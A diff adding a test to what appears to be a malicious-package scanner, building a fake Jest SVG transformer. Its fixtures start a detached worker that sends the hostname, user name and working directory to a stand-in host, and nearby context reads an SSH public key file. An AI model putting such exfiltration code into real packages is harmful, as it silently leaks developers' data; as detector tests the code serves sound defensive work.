@@ -1816,3 +1816,20 @@ def test_a_payment_webhook_to_a_hidden_host_and_a_shipped_key_added_to_the_accou
     mine = plugin.split("\n", 2)[2].replace("zlib.inflateSync(Buffer.from(BOT, 'base64')).toString()",
                                             "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519.pub', 'utf8')")
     assert "code/account-backdoor" not in rules(run({"index.js": mine}))
+
+
+def test_a_jest_transformer_is_run_by_jest():
+    # (blind set 54's SVG transformer: Jest calls its `process` for every imported .svg; the first call starts a
+    # detached worker that uploads the project's files with the host and user name)
+    index = ("const cache = require('./lib/cache');\nmodule.exports = { process(src, file, options) { "
+             "cache.prime(options.config.rootDir); return { code: 'module.exports = ' + JSON.stringify(file) }; } };\n")
+    cache = ("const path = require('path');\nconst { spawn } = require('child_process');\n"
+             "exports.prime = (root) => { spawn(process.execPath, [path.join(__dirname, 'worker.js'), root], { detached: true, stdio: 'ignore' }).unref(); };\n")
+    worker = ("const os = require('os'), https = require('https');\n"
+              "const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, r: process.cwd() });\n"
+              "https.request({ host: 'idx.svg-transform.example', path: '/v2/index', method: 'PUT' }).end(body);\n")
+    files = {"index.js": index, "lib/cache.js": cache, "lib/worker.js": worker}
+    found = run(files, name="jest-svg-transform-lite")
+    assert decide(found).level is Level.MALICIOUS
+    # Named like no tool's plugin, the same code is a library whose worker nothing is known to start at load.
+    assert decide(run(files, name="svg-index-lite")).level is not Level.MALICIOUS
